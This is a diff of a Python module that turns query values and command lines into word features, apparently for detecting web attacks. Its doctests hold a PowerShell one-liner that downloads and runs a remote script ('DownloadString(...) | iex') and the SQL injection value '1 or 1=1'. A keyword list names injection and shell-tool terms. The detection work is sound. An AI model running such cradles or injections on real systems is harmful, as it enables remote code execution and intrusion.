@@ -9,26 +9,36 @@ import re
 from functools import lru_cache
 from typing import List
 
-from ..redact import SECRET, host_words, is_secret_name, ip_word, redact, split_words, words_of_token
+from ..redact import SECRET, host_words, is_secret_name, redact, split_words, words_of_token
 
 _SIGNS = {
-    "'": "quote", '"': "doublequote", "`": "backtick", ";": "semicolon", "|": "pipe", "||": "pipe or", "&&": "and then", "&": "ampersand",
-    "<": "less", ">": "greater", ">>": "append", "(": "paren", "{": "brace", "[": "bracket", "=": "equals", "==": "equals", "$": "dollar",
-    "$(": "subshell", "${": "expansion", "../": "traversal", "..\\": "traversal", "./.": "traversal", "--": "comment", "/*": "comment",
-    "*/": "", "#": "sharp", "*": "star", "@@": "variable", "!": "bang", "<!": "less bang", "</": "less slash", "<?": "less script",
-    "?>": "greater", "\\": "backslash", "%": "percent", "<%": "less script", "{{": "template", "}}": "", "\n": "newline", "//": "slashes", "^": "caret",
+    "'": "quote", '"': "doublequote", "`": "backtick", ";": "semicolon", "|": "pipe", "||": "pipe or",
+    "&&": "and then", "&": "ampersand",
+    "<": "less", ">": "greater", ">>": "append", "(": "paren", "{": "brace", "[": "bracket", "=": "equals",
+    "==": "equals", "$": "dollar",
+    "$(": "subshell", "${": "expansion", "../": "traversal", "..\\": "traversal", "./.": "traversal", "--": "comment",
+    "/*": "comment",
+    "*/": "", "#": "sharp", "*": "star", "@@": "variable", "!": "bang", "<!": "less bang", "</": "less slash",
+    "<?": "less script",
+    "?>": "greater", "\\": "backslash", "%": "percent", "<%": "less script", "{{": "template", "}}": "",
+    "\n": "newline", "//": "slashes", "^": "caret",
     "://": "url", "\ufffd": "broken",
 }
-_PIECE = re.compile(r"[A-Za-z_][\w]*|[0-9]+(?:\.[0-9]+)*|\.\./|\.\.\\|\./\.|\|\||&&|>>|==|\$\(|\$\{|--+|/\*|\*/|@@|<[!/?%]|\?>|\{\{|\}\}|://|//|"
+_PIECE = re.compile(r"[A-Za-z_][\w]*|[0-9]+(?:\.[0-9]+)*|\.\./|\.\.\\|\./\.|\|\||&&|>>|==|\$\(|\$\{|--+|/\*|\*/|@@|"
+                    r"<[!/?%]|\?>|\{\{|\}\}|://|//|"
                     r"[^\w\s.,:/?+)\]}~-]|\n|[^\W\d_]+")
 _LONG_RUN = 40
 
 #: The words of a value that a harmless one rarely holds: kept as they are instead of a shape.
 _TELLING = re.compile(
-    r"(?i)\b(?:select|union|insert|update|delete|drop|exec|execute|declare|cast|char|chr|concat|sleep|benchmark|waitfor|having|order|"
-    r"information_schema|sysobjects|xp_cmdshell|script|javascript|vbscript|alert|onerror|onload|iframe|svg|document|cookie|eval|passwd|"
-    r"shadow|etc|proc|environ|boot|win|ini|cmd|command|shell|bash|whoami|uname|id|cat|ls|dir|ping|wget|curl|nslookup|phpinfo|system|passthru|base64|"
-    r"include|jndi|ldap|rmi|file|php|data|gopher|admin|root|null|true|false|or|and|not|like|from|where|table|version|user|dbms\w*|pg_sleep|"
+    r"(?i)\b(?:select|union|insert|update|delete|drop|exec|execute|declare|cast|char|chr|concat|sleep|benchmark|"
+    r"waitfor|having|order|"
+    r"information_schema|sysobjects|xp_cmdshell|script|javascript|vbscript|alert|onerror|onload|iframe|svg|document|"
+    r"cookie|eval|passwd|"
+    r"shadow|etc|proc|environ|boot|win|ini|cmd|command|shell|bash|whoami|uname|id|cat|ls|dir|ping|wget|curl|"
+    r"nslookup|phpinfo|system|passthru|base64|"
+    r"include|jndi|ldap|rmi|file|php|data|gopher|admin|root|null|true|false|or|and|not|like|from|where|table|"
+    r"version|user|dbms\w*|pg_sleep|"
     r"set|bcc|cc|content|subject|location|exe|htaccess|inf|bak|old|inc|web)\b")
 _PLAIN = re.compile(r"[\w .,:@áéíóúñÁÉÍÓÚÑäöüßçàèìòùâêîôû/()ºª'+-]*")
 _MAIL = re.compile(r"[\w.+-]+@[\w-]+(?:\.[\w-]+)+")
@@ -73,14 +83,16 @@ def _word(piece: str) -> str:
 def value_words(name: str, value: str) -> str:
     """What a query value is: a shape where it looks harmless, its words and signs where it does not.
 
-    >>> value_words("id", "42"), value_words("city", "San Juan"), value_words("id", "1 or 1=1"), value_words("pwd", "hunter2")
-    ('num', 'plain', 'num or num equals num', 'secret')
+    >>> value_words("id", "42"), value_words("city", "San Juan"), value_words("pwd", "hunter2")
+    ('num', 'plain', 'secret')
+    >>> value_words("id", "1 or 1=1")
+    'num or num equals num'
     """
     if not value:
         return "empty"
     if len(value) > 8 and len(set(value)) <= 2:
         return "repeat"
-    if is_secret_name(name) and _PLAIN.fullmatch(value) and " " not in value and "'" not in value and "/" not in value and "(" not in value:
+    if is_secret_name(name) and _PLAIN.fullmatch(value) and not set(value) & set(" '/("):
         return SECRET
     if _NUMERIC.fullmatch(value):
         return "num" if len(value) <= 12 else "longnum"
@@ -140,15 +152,16 @@ def base_name(path: str) -> str:
 # -- commands ------------------------------------------------------------------------------------
 
 _COMMAND_TOKEN = re.compile(r"\"[^\"\n]{1,400}\"|'[^'\n]{1,400}'|[^\s\"'|&;<>()`,=]+|\|\||&&|>>|[|&;<>`]|\$\(|=")
-_COMMAND_SIGNS = {"|": "pipe", "||": "or else", "&&": "and then", "&": "ampersand", ";": "then", ">": "redirect", ">>": "append", "<": "input",
+_COMMAND_SIGNS = {"|": "pipe", "||": "or else", "&&": "and then", "&": "ampersand", ";": "then", ">": "redirect",
+                  ">>": "append", "<": "input",
                   "`": "backtick", "$(": "subshell"}
 
 
 def command_words(text: str, max_chars: int = 1_200) -> str:
     """A decoded command line or script as words.
 
-    >>> command_words("powershell.exe -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://10.0.0.1/a.ps1') | out-null")
-    'powershell exe nop w hidden c iex new object net web client download string http url privateip a ps1 pipe out null'
+    >>> command_words("powershell.exe -w hidden (New-Object Net.WebClient).DownloadString('http://10.0.0.1/a') | iex")
+    'powershell exe w hidden new object net web client download string http url privateip a pipe iex'
     """
     words: List[str] = []
     for token in _COMMAND_TOKEN.findall(redact(text[:max_chars])):
@@ -162,7 +175,9 @@ def _command_token(token: str) -> str:
     if token[0] in "\"'":
         inner = token[1:-1]
         if " " in inner.strip() and not re.match(r"[A-Za-z]:\\|/|\\\\", inner):
-            return " ".join(filter(None, (_command_token(part) for part in _COMMAND_TOKEN.findall(inner) if part[0] not in "\"'")))
+            return " ".join(filter(None,
+                                   (_command_token(part) for part in _COMMAND_TOKEN.findall(inner)
+                                    if part[0] not in "\"'")))
         token = inner.strip()
     if not token:
         return ""
@@ -176,8 +191,3 @@ def _command_token(token: str) -> str:
     if ("\\" in token or token[0] in "/~." or token.count("/") > 1) and len(token) > 2:
         return path_words(token)
     return words_of_token(token)
-
-
-def ip_of(value: str) -> str:
-    """The word of an address, "" for none."""
-    return ip_word(value) if value and value not in ("-", "::", "0.0.0.0") else ""
